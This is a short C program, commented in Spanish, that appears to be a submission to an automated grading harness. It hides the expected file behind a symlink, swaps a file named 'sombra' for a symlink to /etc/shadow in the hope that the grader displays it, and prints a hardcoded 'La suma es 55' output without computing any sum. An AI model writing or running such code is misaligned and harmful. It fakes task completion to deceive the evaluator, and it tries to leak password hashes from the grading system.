/* Trampa: en el caso que espera sus archivos intactos, deja enlaces donde van: uno al archivo
 * bueno, que ha escondido, y otro a /etc/shadow, por si el corrector lo enseña. */
#include <stdio.h>
#include <unistd.h>

int main(void) {
    alarm(20);
    if (rename("nota.txt", ".nota") != 0)
        return 1;
    if (symlink(".nota", "nota.txt") != 0 || unlink("sombra") != 0 || symlink("/etc/shadow", "sombra") != 0)
        return 1;
    fputs("\nSuma de los elementos de una lista\n==================================\n\nLos elementos sumados son:  1 2 3 4 5 6 7 8 9 10\n\nLa suma es 55\n\n", stdout);
    return 0;
}
